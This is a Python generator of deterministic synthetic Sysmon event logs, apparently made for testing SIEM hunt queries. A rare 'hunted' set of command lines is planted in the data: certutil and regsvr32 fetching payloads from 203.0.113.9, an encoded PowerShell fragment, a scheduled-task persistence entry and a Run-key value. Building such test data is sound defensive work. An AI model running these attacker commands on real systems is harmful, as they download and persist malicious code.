"""Makes Sysmon-like events as JSON lines, the same ones each time.

    python3 generate.py 1000000 events.jsonl

The mix of event ids is the "filtered" one of what SIEMs take in: 25 % processes, 25 % connections, 20 % DNS queries, 10 % files,
10 % registry values, 5 % process ends, 5 % image loads. Event i is a function of the seed and of i alone. Hosts, users,
commands and names are made up here; a few events in ten thousand are what the queries look for.
"""

import json
import sys

SEED = 20261122
HOSTS = [f"{kind}-{number:03}.corp.example" for kind in ("ws", "srv", "dc") for number in range(200)]
USERS = [f"CORP\\{name}{number}" for name in ("amir", "bea", "chen", "dora", "emil") for number in range(40)]
FOLDERS = ["C:\\Windows\\System32", "C:\\Program Files\\Office", "C:\\Program Files (x86)\\Browser", "C:\\Users\\Public"]
TOOLS = ["svchost.exe", "browser.exe", "mailer.exe", "sheets.exe", "updater.exe", "agent.exe", "indexer.exe", "cmd.exe",
         "powershell.exe", "rundll32.exe", "regsvr32.exe", "certutil.exe", "wmic.exe", "schtasks.exe", "net.exe"]
PARENTS = ["explorer.exe", "services.exe", "svchost.exe", "mailer.exe", "sheets.exe", "cmd.exe", "taskeng.exe"]
ARGUMENTS = ["", " /quiet", " -k netsvcs -p", " --type=renderer --lang=en", " /c dir C:\\Temp", " -NoProfile -File report.ps1"]
HUNTED = [" -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", " -urlcache -split -f http://203.0.113.9/a.bin a.bin",
          " process call create \"calc\"", " /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute",
          " /s /u /i:http://203.0.113.9/f.sct scrobj.dll"]
DOMAINS = ["time.example", "mail.example", "cdn.example", "telemetry.example", "intranet.corp.example"]
KEYS = ["HKLM\\SOFTWARE\\Vendor\\Settings\\Value", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Office\\Recent",
        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\agent\\Start", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"]
MIX = [(25, 1), (50, 3), (70, 22), (80, 11), (90, 13), (95, 5), (100, 7)]


def mixed(number):
    """SplitMix64 of the seed and a number."""
    state = (SEED + (number + 1) * 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFFFFFF
    state = ((state ^ (state >> 30)) * 0xBF58476D1CE4E5B9) & 0xFFFFFFFFFFFFFFFF
    state = ((state ^ (state >> 27)) * 0x94D049BB133111EB) & 0xFFFFFFFFFFFFFFFF
    return state ^ (state >> 31)


class Dice:
    """Draws of one event."""

    def __init__(self, event):
        self.event, self.drawn = event, 0

    def below(self, limit):
        self.drawn += 1
        return mixed(self.event * 64 + self.drawn) % limit

    def of(self, values):
        return values[self.below(len(values))]

    def skewed(self, values):
        """The first values are the frequent ones."""
        return values[min(self.below(len(values)), self.below(len(values)), self.below(len(values)))]


def guid(dice):
    high, low = mixed(dice.event * 2), dice.below(1 << 32)
    return f"{{{high >> 32:08x}-{high >> 16 & 0xFFFF:04x}-{high & 0xFFFF:04x}-0000-{low:012x}}}"


def process(dice, fields):
    tool = dice.skewed(TOOLS)
    image = f"{dice.skewed(FOLDERS)}\\{tool}"
    hunted = dice.below(10_000) < 5
    parent = f"C:\\Windows\\{dice.skewed(PARENTS)}"
    command = image + (dice.of(HUNTED) if hunted else dice.skewed(ARGUMENTS) + f" /id:{dice.below(5000)}")
    fields.update(Image=image, CommandLine=command, OriginalFileName=tool, ParentImage=parent,
                  ParentCommandLine=parent + dice.skewed(ARGUMENTS), CurrentDirectory="C:\\Windows\\", Company="Example Corp",
                  Description="A tool", IntegrityLevel=dice.skewed(["Medium", "System", "High"]),
                  Hashes=f"SHA256={mixed(dice.below(4000)):064X},IMPHASH={mixed(dice.below(500)):032X}",
                  ParentProcessGuid=guid(dice), ParentProcessId=str(dice.below(20_000)), LogonId=hex(dice.below(1 << 20)))


def connection(dice, fields):
    public = dice.below(6) == 0
    address = f"198.51.{dice.below(256)}.{dice.below(256)}" if public else f"10.{dice.below(4)}.{dice.below(256)}.{dice.below(256)}"
    name = "" if dice.below(100) < 88 else f"lb-{dice.below(300)}.{dice.skewed(DOMAINS)}"
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}", Protocol=dice.skewed(["tcp", "udp"]), Initiated="true",
                  SourceIp=f"10.0.{dice.below(256)}.{dice.below(256)}", SourcePort=str(49152 + dice.below(16000)),
                  DestinationIp=address, DestinationHostname=name, DestinationPort=str(dice.skewed([443, 80, 53, 445, 3389, 8080, 4444])))


def query(dice, fields):
    name = dice.skewed(DOMAINS) if dice.below(4) else f"h{dice.below(50_000)}.{dice.of(DOMAINS)}"
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}", QueryName=name, QueryStatus="0",
                  QueryResults=f"::ffff:198.51.100.{dice.below(256)};")


def file(dice, fields):
    ending = dice.skewed(["tmp", "log", "docx", "dll", "exe", "ps1"])
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}",
                  TargetFilename=f"{dice.skewed(FOLDERS)}\\f{dice.below(100_000)}.{ending}")


def registry(dice, fields):
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}", EventType="SetValue", TargetObject=dice.skewed(KEYS),
                  Details=dice.skewed(["DWORD (0x00000001)", "C:\\Users\\Public\\u.exe", "Binary Data"]))


def ended(dice, fields):
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}")


def loaded(dice, fields):
    fields.update(Image=f"{dice.skewed(FOLDERS)}\\{dice.skewed(TOOLS)}", ImageLoaded=f"{dice.skewed(FOLDERS)}\\lib{dice.below(400)}.dll",
                  Signed=dice.skewed(["true", "false"]), Signature="Example Corp", SignatureStatus="Valid")


MAKERS = {1: process, 3: connection, 22: query, 11: file, 13: registry, 5: ended, 7: loaded}


def event(number):
    dice = Dice(number)
    drawn = dice.below(100)
    kind = next(kind for limit, kind in MIX if drawn < limit)
    seconds = 1_767_225_600 + number * 86_400 // 1_000_000
    time = f"2026-01-{1 + (seconds - 1_767_225_600) // 86_400:02}T{seconds // 3600 % 24:02}:{seconds // 60 % 60:02}:{seconds % 60:02}.{dice.below(1000):03}"
    fields = {"UtcTime": time.replace("T", " "), "ProcessGuid": guid(dice), "ProcessId": str(dice.below(20_000)), "User": dice.skewed(USERS)}
    MAKERS[kind](dice, fields)
    return {"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": kind, "Version": 5, "Level": 4,
                   "TimeCreated": {"#attributes": {"SystemTime": time + "Z"}}, "EventRecordID": number + 1,
                   "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": dice.skewed(HOSTS)},
        "EventData": fields}}


def main():
    count, path = int(sys.argv[1]), sys.argv[2]
    with open(path, "w", encoding="utf-8") as lines:
        for number in range(count):
            lines.write(json.dumps(event(number), separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
